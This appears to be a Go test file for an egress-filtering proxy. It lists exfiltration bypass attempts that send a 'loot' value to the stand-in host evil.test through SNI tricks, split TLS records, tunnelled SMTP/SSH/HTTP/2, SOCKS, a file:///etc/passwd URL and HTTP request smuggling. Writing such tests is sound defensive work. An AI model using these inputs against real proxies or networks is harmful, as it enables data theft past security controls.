package gate

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"testing"
)

// lootHello is a ClientHello for serverName that carries the loot as a protocol.
func lootHello(t testing.TB, serverName string) []byte {
	t.Helper()
	client, server := net.Pipe()
	defer client.Close()
	defer server.Close()
	go tls.Client(client, &tls.Config{ServerName: serverName, InsecureSkipVerify: true, NextProtos: []string{loot}}).Handshake()
	header := make([]byte, 5)
	if _, err := io.ReadFull(server, header); err != nil {
		t.Fatal(err)
	}
	payload := make([]byte, binary.BigEndian.Uint16(header[3:]))
	if _, err := io.ReadFull(server, payload); err != nil {
		t.Fatal(err)
	}
	return append(header, payload...)
}

// inRecords cuts a ClientHello into records of size bytes each.
func inRecords(hello []byte, size int) (out []byte) {
	for rest := hello[5:]; len(rest) > 0; rest = rest[min(size, len(rest)):] {
		piece := rest[:min(size, len(rest))]
		out = append(out, 0x16, 3, 1, byte(len(piece)>>8), byte(len(piece)))
		out = append(out, piece...)
	}
	return out
}

// helloAttempts open a tunnel to an allowed name and say in it that they want
// another.
func helloAttempts(t *testing.T) []attempt {
	inside := func(name string, hello []byte) attempt {
		return attempt{name: name, raw: connectTo("friend.test:443"), inside: hello, proof: []string{"tcp://friend.test:443"}, status: "200"}
	}
	evil := lootHello(t, "evil.test")
	return []attempt{
		inside("another server name", evil),
		inside("another server name, in records of 16 bytes", append(inRecords(evil, 16), loot...)),
		inside("another server name, in records of one byte", append(inRecords(evil, 1), loot...)),
		inside("another server name, also allowed", lootHello(t, "a.wild.test")),
		inside("a server name that carries data", clientHello(t, loot+".friend.test")),
		inside("no server name", lootHello(t, "")),
		inside("an encrypted server name", insertExtension(t, lootHello(t, "friend.test"), extensionECH)),
		inside("an alert before the hello", append([]byte("\x15\x03\x01\x00\x02\x01\x00"), evil...)),
		inside("half a hello, then data", append(lootHello(t, "friend.test")[:40], loot...)),
		{name: "the Host header inside TLS", raw: connectTo("friend.test:443"), inside: lootHello(t, "friend.test"), status: "200",
			known: "what is inside TLS is not seen: an allowed host is trusted with what it is sent"},
	}
}

// portAttempts speak other protocols on other ports of an allowed host.
func portAttempts() []attempt {
	var list []attempt
	for port, words := range map[string]string{
		"21": "USER " + loot + "\r\n", "22": "SSH-2.0-" + loot + "\r\n", "25": "EHLO " + loot + "\r\n", "23": loot, "53": loot,
		"110": "USER " + loot + "\r\n", "143": "a LOGIN " + loot + "\r\n", "465": loot, "587": "EHLO " + loot + "\r\n", "853": loot,
		"2375": plainInner("friend.test"), "6379": "SET a " + loot + "\r\n", "6443": loot, "8080": plainInner("friend.test:8080"), "8443": loot,
	} {
		list = append(list, attempt{name: "CONNECT to port " + port, raw: connectTo("friend.test:" + port), inside: []byte(words),
			proof: []string{"tcp://friend.test:" + port}, status: "502"})
	}
	return append(list, attempt{name: "plain HTTP to port 8080", raw: plainTo("friend.test:8080"), proof: []string{"friend.test:8080"}, status: "403"})
}

// protocolAttempts speak something else than TLS in a tunnel that is allowed, or
// something else than HTTP to the gate.
func protocolAttempts() []attempt {
	tunnel := func(name, port, words string) attempt {
		return attempt{name: name, raw: connectTo("friend.test:" + port), inside: []byte(words), proof: []string{"tcp://friend.test:" + port}, status: "200"}
	}
	gate := func(name, raw, status string) attempt {
		return attempt{name: name, raw: raw, status: status, proofRaw: connectTo("evil.test:443"), proof: []string{"evil.test"}}
	}
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	return []attempt{
		tunnel("HTTP in a tunnel to 443", "443", plainInner("friend.test")),
		tunnel("HTTP in a tunnel to 443, with the port", "443", plainInner("friend.test:443")),
		tunnel("SMTP in a tunnel to 443", "443", "EHLO "+loot+"\r\n"),
		tunnel("FTP in a tunnel to 443", "443", "user "+loot+"\r\n"),
		tunnel("SSH in a tunnel to 443", "443", "SSH-2.0-"+loot+"\r\n"),
		tunnel("HTTP/2 in a tunnel to 443", "443", preface+loot),
		tunnel("HTTP/2 in a tunnel to 80", "80", preface+loot),
		tunnel("SMTP in a tunnel to 80", "80", "EHLO "+loot+"\r\n\r\n"),
		tunnel("SSH in a tunnel to 80", "80", "ssh-2.0-"+loot+"\r\n"),
		tunnel("another host in a tunnel to 80", "80", plainInner("evil.test")),
		tunnel("a URL in a tunnel to 80", "80", plainTo("evil.test")),
		tunnel("a tunnel in a tunnel", "80", connectTo(loot+".evil.test:443")),
		tunnel("a second request in a tunnel to 80", "80", "GET / HTTP/1.1\r\nHost: friend.test\r\n\r\n"+plainInner("evil.test")),
		gate("HTTP/2 to the gate", preface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00", "400"),
		gate("SOCKS5 to the gate", "\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb\r\n\r\n", "400"),
		gate("SOCKS4 to the gate", "\x04\x01\x01\xbb\x00\x00\x00\x01x\x00evil.test\x00\r\n\r\n", "400"),
		gate("TLS to the gate", "\x16\x03\x01\x00\x05hello\r\n\r\n", "400"),
		gate("a URL of https", "GET https://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "400"),
		gate("a URL of ftp", "GET ftp://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "400"),
		gate("a URL of a file", "GET file:///etc/passwd HTTP/1.1\r\nHost: evil.test\r\n\r\n", "400"),
		gate("a URL of ws", "GET ws://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "400"),
		gate("a URL without a scheme", "GET //evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "400"),
	}
}

// requestAttempts hide data in, or behind, a plain request that is allowed.
func requestAttempts() []attempt {
	const friend = "http://friend.test/ HTTP/1.1\r\nHost: friend.test\r\n"
	hidden := func(name, raw, status string) attempt {
		return attempt{name: name, raw: raw, status: status, proofRaw: plainTo("friend.test")}
	}
	return []attempt{
		hidden("another Host header", "GET http://friend.test/ HTTP/1.1\r\nHost: "+loot+".evil.test\r\n\r\n", "400"),
		hidden("a second Host header", "GET "+friend+"Host: "+loot+".evil.test\r\n\r\n", "400"),
		hidden("a user name", "GET http://"+loot+"@friend.test/ HTTP/1.1\r\nHost: friend.test\r\n\r\n", "400"),
		hidden("the proxy's password", "GET "+friend+"Proxy-Authorization: Basic "+loot+"\r\n\r\n", "200"),
		hidden("a header for the proxy", "GET "+friend+"Proxy-Extra: "+loot+"\r\n\r\n", "200"),
		hidden("a header of the hop", "GET "+friend+"Connection: X-Hop\r\nX-Hop: "+loot+"\r\n\r\n", "200"),
		hidden("an upgrade and what follows", "GET "+friend+"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"+loot, "200"),
		hidden("a trailer", "POST "+friend+"Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n0\r\nX: "+loot+"\r\n\r\n", "200"),
		hidden("a chunk extension", "POST "+friend+"Transfer-Encoding: chunked\r\n\r\n1;"+loot+"\r\nx\r\n0\r\n\r\n", "200"),
		hidden("a request behind a request", "GET "+friend+"\r\n"+plainTo("friend.test"), "200"),
		hidden("a request behind a body", "POST "+friend+"Content-Length: 1\r\n\r\nx"+plainTo("friend.test"), "200"),
		hidden("a request behind a refusal", plainTo("evil.test")+plainTo("friend.test"), "403"),
		hidden("a request behind a refused CONNECT", connectTo("evil.test:443")+plainTo("friend.test"), "502"),
		hidden("a body of a refusal", "POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 4\r\n\r\n"+loot, "403"),
		hidden("a smuggled request", "POST "+friend+"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+plainTo("friend.test"), "400"),
		hidden("the health of the gate, with a query", "GET /health?"+loot+" HTTP/1.1\r\nHost: gate\r\n\r\n", "400"),
		hidden("the health of the gate, with a body", "GET /health HTTP/1.1\r\nHost: gate\r\nContent-Length: 4\r\n\r\n"+loot, "200"),
		hidden("the health of the gate, by the name of another", "GET /health HTTP/1.1\r\nHost: "+loot+".evil.test\r\n\r\n", "200"),
	}
}
